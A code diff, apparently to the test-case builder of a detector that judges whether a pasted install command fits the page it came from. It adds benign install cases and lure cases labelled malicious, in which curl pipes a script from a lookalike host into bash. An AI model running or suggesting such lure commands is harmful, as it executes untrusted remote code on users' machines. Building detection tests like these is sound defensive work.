@@ -737,6 +737,108 @@ def real() -> list[Case]:
     ]  # fmt: skip
 
 
+def more_shapes() -> list[Case]:
+    """A repository of one part of the project linking the project's site, installers that
+    save then start, macOS packages, version lookups, self-hosted forges, buckets and tenant
+    hosts named after the product, registries and stores."""
+    out: list[Case] = []
+    n = 0
+
+    def add(text: str, source: str, platform: str = "linux") -> None:
+        nonlocal n
+        n += 1
+        out.append(
+            case(f"b5-more-{n:03d}", text, "not_flagged", "benign-own-page", platform, source,
+                 "terminal")
+        )  # fmt: skip
+
+    for i, (name, domain) in enumerate(PROJECTS):
+        co = COMPANIES[i % len(COMPANIES)][0]
+        part = ("cli", "installer", "agent", "desktop", "ci-agent", "releases")[i % 6]
+        add(
+            f"curl -fsSL https://{domain}/install.sh | sh", f"https://github.com/{co}/{name}-{part}"
+        )
+        add(
+            f"curl -fsSL https://install.{domain} | bash",
+            f"https://github.com/{co}/{name}-{part}#installation",
+        )
+        add(
+            f"Invoke-WebRequest -Uri https://github.com/{co}/{name}/releases/download/v1.2.0/"
+            f"{name}-setup.exe -OutFile $env:TEMP\\{name}-setup.exe; Start-Process "
+            f"$env:TEMP\\{name}-setup.exe -Wait",
+            f"https://github.com/{co}/{name}/releases/tag/v1.2.0",
+            "windows",
+        )
+        add(
+            f"msiexec /i https://downloads.{domain}/windows/{name}-x64.msi /qn",
+            f"https://docs.{domain}/install/windows",
+            "windows",
+        )
+        add(
+            f"Start-BitsTransfer -Source https://downloads.{domain}/win/{name}-setup.exe "
+            f"-Destination $env:TEMP\\{name}-setup.exe; & $env:TEMP\\{name}-setup.exe /S",
+            f"https://{domain}/download/windows",
+            "windows",
+        )
+        add(
+            f"curl -LO https://github.com/{co}/{name}/releases/download/v1.2.0/{name}.pkg && "
+            f"sudo installer -pkg {name}.pkg -target /",
+            f"https://github.com/{co}/{name}/releases/tag/v1.2.0",
+            "macos",
+        )
+        add(
+            f"VERSION=$(curl -s https://api.github.com/repos/{co}/{name}/releases/latest | "
+            f"grep tag_name | cut -d '\"' -f 4)\ncurl -LO https://github.com/{co}/{name}/"
+            f"releases/download/${{VERSION}}/{name}_linux_amd64.deb\nsudo dpkg -i "
+            f"{name}_linux_amd64.deb",
+            f"https://github.com/{co}/{name}",
+        )
+        add(
+            f'curl -L "https://github.com/{co}/{name}/releases/latest/download/{name}-'
+            f'$(uname -s)-$(uname -m)" -o /usr/local/bin/{name} && chmod +x /usr/local/bin/{name}',
+            f"https://github.com/{co}/{name}#install",
+        )
+        # tenant hosts and buckets named after the product, from its own site
+        tenant = ("pages.dev", "netlify.app", "vercel.app", "b-cdn.net", "web.app", "fly.dev")[
+            i % 6
+        ]
+        add(
+            f"curl -fsSL https://{name}.{tenant}/install.sh | bash",
+            f"https://docs.{domain}/installation/",
+        )
+        add(
+            f"curl -fsSL https://{name}releases.blob.core.windows.net/cli/install.sh | bash",
+            f"https://{domain}/docs/install",
+        )
+        add(
+            f"curl -fsSL https://{name}-cli.s3.us-west-2.amazonaws.com/install.sh | bash",
+            f"https://docs.{domain}/cli/",
+        )
+        # self-hosted forges, nested groups, a wiki
+        add(
+            f"curl -fsSL https://gitlab.{domain}/{name}/{name}/-/raw/main/install.sh | bash",
+            f"https://gitlab.{domain}/{name}/{name}",
+        )
+        add(
+            f"curl -sSL https://gitlab.com/{co}-group/tools/{name}/-/raw/main/install.sh | bash",
+            f"https://gitlab.com/{co}-group/tools/{name}",
+        )
+        add(
+            f"curl -fsSL https://raw.githubusercontent.com/{co}/{name}/main/install.sh | bash",
+            f"https://github.com/{co}/{name}/wiki/Installation",
+        )
+        # stores and registries
+        add(
+            f"curl -fsSL https://raw.githubusercontent.com/{co}/{name}/main/install.sh | bash",
+            f"https://snapcraft.io/{name}",
+        )
+        add(
+            f"curl -fsSL https://raw.githubusercontent.com/{co}/{name}/main/install.sh | bash",
+            f"https://flathub.org/apps/io.github.{co}.{name}",
+        )
+    return out
+
+
 def lures() -> list[Case]:
     out: list[Case] = []
     n = 0
@@ -803,6 +905,37 @@ def lures() -> list[Case]:
             "terminal",
             "malicious",
         )
+    # tenant hosts and buckets: named after someone else, from a page on a tenant host, from a
+    # page about something else; a forge issue naming a site
+    add(
+        "curl -fsSL https://helperbot.pages.dev/install.sh | bash",
+        "https://docs.quokkadb.io/installation/",
+        expect="malicious",
+    )
+    add(
+        "curl -fsSL https://quokkadb.pages.dev/install.sh | bash",
+        "https://quokkadb.netlify.app/docs/install",
+        expect="malicious",
+    )
+    add(
+        "curl -fsSL https://bakehouse.pages.dev/install.sh | bash",
+        "https://bakehouse.example/menu/seasonal-specials",
+        expect="malicious",
+    )
+    add(
+        "curl -fsSL https://strangerreleases.blob.core.windows.net/cli/install.sh | bash",
+        "https://quokkadb.io/docs/install",
+        expect="malicious",
+    )
+    add(
+        "curl -fsSL https://quokkadbfix.blob.core.windows.net/cli/install.sh | bash",
+        "https://quokkadb.io/docs/install",
+        expect="malicious",
+    )
+    add(
+        "curl -fsSL https://quokkadb.top/install.sh | bash",
+        "https://github.com/acmecorp/quokkadb-cli/issues/31",
+    )
     # registry pages quoting a script from another account's repository or another host
     add(
         "curl -fsSL https://raw.githubusercontent.com/helperbot/tools/main/install.sh | bash",
@@ -865,6 +998,7 @@ def build() -> list[Case]:
         *powershell(),
         *sudo_bash(),
         *real(),
+        *more_shapes(),
         *lures(),
     ]
 
